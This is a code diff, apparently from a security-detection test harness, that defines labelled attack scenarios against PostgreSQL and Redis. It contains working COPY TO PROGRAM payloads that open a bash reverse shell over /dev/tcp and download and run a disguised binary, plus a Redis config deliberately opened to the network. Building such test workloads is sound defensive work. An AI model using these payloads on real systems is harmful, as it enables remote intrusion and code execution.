@@ -212,6 +212,8 @@ func workloadsV2(helper string) []workload {
 						return psqlFromB(h, fmt.Sprintf(`COPY (SELECT 1) TO PROGRAM 'bash -c "bash -i >& /dev/tcp/%s/4445 0>&1"'`, h.B))
 					},
 					listen: []string{"busybox", "nc", "-l", "-p", "4445"}, listenStdin: "id\nls /var/lib/postgresql\nexit\n"},
+				// The payload's beacon finds no listener: the program exits
+				// non-zero and COPY reports an error after the download ran.
 				{scenario: "postgres-drop-execute", name: "COPY TO PROGRAM downloads and runs a binary", split: splitDev, mitre: []string{"T1105", "T1059.004"},
 					fromB: func(h hosts) []string {
 						return psqlFromB(h, fmt.Sprintf(`COPY (SELECT 1) TO PROGRAM 'bash -c "cat < /dev/tcp/%[1]s/8002 > /tmp/kworkerd; chmod +x /tmp/kworkerd; /tmp/kworkerd beacon %[1]s:8001"'`, h.B))
@@ -235,7 +237,8 @@ func workloadsV2(helper string) []workload {
 			setup: func(root string, _ hosts) error {
 				_, err := testinfra.Chroot(root, "sh", "-c", `sed -i -e 's/^bind .*/bind 0.0.0.0/' -e 's/^protected-mode yes/protected-mode no/' `+
 					`-e 's/^appendonly no/appendonly yes/' -e 's/^daemonize yes/daemonize no/' -e 's/^supervised .*/supervised no/' `+
-					`-e 's|^logfile .*|logfile /var/log/redis/redis-server.log|' -e 's/^save 3600 1.*/save 300 100/' /etc/redis/redis.conf && mkdir -p /var/spool/cron/crontabs /root/.ssh`)
+					`-e 's|^logfile .*|logfile /var/log/redis/redis-server.log|' -e 's/^save 3600 1.*/save 300 100/' /etc/redis/redis.conf && `+
+					`echo 'enable-protected-configs yes' >> /etc/redis/redis.conf && mkdir -p /var/spool/cron/crontabs /root/.ssh`)
 				return err
 			},
 			load: func(h hosts) []string { return []string{"python3", "-c", clientLoad, "redis", h.A} },
